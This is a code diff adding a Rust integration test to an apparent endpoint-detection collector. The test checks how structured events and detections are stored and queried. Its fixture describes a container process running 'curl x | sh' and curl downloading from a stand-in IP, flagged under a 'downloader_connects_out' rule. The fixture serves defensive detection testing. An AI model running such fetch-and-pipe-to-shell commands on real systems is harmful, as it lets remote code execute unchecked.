@@ -895,6 +895,150 @@ async fn bundles_join_their_detection_and_chain(backend: Backend) {
     assert_eq!(e.manifest_agent, "test-agent");
 }
 
+/// Structured messages (agents from 0.2 on: no JSON inside the protobuf)
+/// are stored as their JSON document and read like an old agent's; a
+/// message with neither form is refused.
+async fn structured_messages_are_stored_as_their_document(backend: Backend) {
+    use vigil_proto::event::Payload;
+    let pki = Pki::new();
+    let data = tempfile::tempdir().unwrap();
+    let c = Collector::start(backend, &pki, data.path(), &[]);
+    let mut ingest = c.ingest(&pki, "agent-1").await;
+    let process = vigil_proto::Process {
+        pid: 301,
+        ppid: 200,
+        exe: "/usr/bin/curl".into(),
+        comm: "curl".into(),
+        argv: vec!["curl".into(), "http://203.0.113.9/x".into()],
+        uid: 33,
+        euid: 33,
+        workload: Some(vigil_proto::Workload {
+            kind: "container".into(),
+            cgroup: "/docker/abc".into(),
+            container_id: "0123456789abcdef".repeat(4),
+            ..Default::default()
+        }),
+    };
+    let ancestry = vec![
+        vigil_proto::Ancestor {
+            pid: 200,
+            exe: "/bin/sh".into(),
+            argv: vec!["sh".into(), "-c".into(), "curl x | sh".into()],
+        },
+        vigil_proto::Ancestor {
+            pid: 100,
+            exe: "/usr/bin/node".into(),
+            argv: vec!["node".into()],
+        },
+    ];
+    let own = Event {
+        kind: "connect".into(),
+        pid: 301,
+        uid: 33,
+        boot_ns: 5,
+        tid: 301,
+        comm: "curl".into(),
+        payload: Some(Payload::Connect(vigil_proto::ConnectPayload {
+            protocol: "tcp".into(),
+            daddr: "203.0.113.9".into(),
+            dport: 80,
+            saddr: "10.0.0.2".into(),
+            sport: 40000,
+            ret: Some(0),
+        })),
+        ..Default::default()
+    };
+    let event = Event {
+        time_unix_nanos: 1_796_205_600_000_000_000,
+        ppid: 200,
+        exe: process.exe.clone(),
+        argv: process.argv.clone(),
+        workload_key: "container:0123456789ab".into(),
+        process: Some(process.clone()),
+        ancestry: ancestry.clone(),
+        ..own.clone()
+    };
+    let detection = Detection {
+        time_unix_nanos: event.time_unix_nanos,
+        rule: "downloader_connects_out".into(),
+        severity: Severity::High as i32,
+        mitre: vec!["T1105".into()],
+        summary: "curl connected out".into(),
+        pid: 301,
+        ppid: 200,
+        exe: process.exe.clone(),
+        argv: process.argv.clone(),
+        workload_key: "container:0123456789ab".into(),
+        ancestry,
+        uid: 33,
+        comm: "curl".into(),
+        detected_at: "2026-12-02T10:00:00.002000000Z".into(),
+        latency_ns: 2_000_000,
+        rule_source: "builtin".into(),
+        process: Some(process),
+        event: Some(own),
+        capture: "queued".into(),
+        ..Default::default()
+    };
+    let doc = vigil_proto::document::detection(&detection).unwrap();
+    ingest
+        .push_events(tokio_stream::iter(vec![EventBatch {
+            batch_id: "e1".into(),
+            events: vec![event.clone()],
+        }]))
+        .await
+        .unwrap();
+    ingest
+        .push_detections(tokio_stream::iter(vec![DetectionBatch {
+            batch_id: "d1".into(),
+            detections: vec![detection],
+        }]))
+        .await
+        .unwrap();
+    let mut q = c.query(&pki).await;
+    let stored = q
+        .list_detections(ListDetectionsRequest::default())
+        .await
+        .unwrap()
+        .into_inner()
+        .detections;
+    assert_eq!(stored.len(), 1);
+    let d = stored[0].detection.as_ref().unwrap();
+    let json: serde_json::Value = serde_json::from_str(&d.json).unwrap();
+    assert_eq!(json, doc);
+    assert_eq!(json["event"]["daddr"], "203.0.113.9");
+    assert_eq!(json["evidence"]["capture"], "queued");
+    assert!(d.event.is_none(), "stored in one form: the document");
+    let detail = q
+        .get_incident(GetIncidentRequest {
+            id: stored[0].incident_id,
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    let ev = detail
+        .events
+        .iter()
+        .find_map(|e| e.event.as_ref())
+        .expect("the detected process's event");
+    let ev_json: serde_json::Value = serde_json::from_str(&ev.json).unwrap();
+    assert_eq!(ev_json, vigil_proto::document::event(&event).unwrap());
+    // Neither a JSON line nor a structured payload: refused.
+    let err = ingest
+        .push_events(tokio_stream::iter(vec![EventBatch {
+            batch_id: "e2".into(),
+            events: vec![Event {
+                time_unix_nanos: 1,
+                kind: "exec".into(),
+                ..Default::default()
+            }],
+        }]))
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
+    assert!(err.message().contains("structured"), "{err:?}");
+}
+
 on_both_stores!(
     bundles_that_do_not_match_their_manifest_are_refused,
     bundles_join_their_detection_and_chain,
@@ -906,6 +1050,7 @@ on_both_stores!(
     limits_are_enforced_and_the_server_keeps_serving,
     malformed_protobuf_is_invalid_argument,
     malformed_ids_are_refused_without_touching_the_disk,
+    structured_messages_are_stored_as_their_document,
     sigkill_during_upload_then_resume_gives_a_correct_blob,
     data_survives_a_restart,
 );
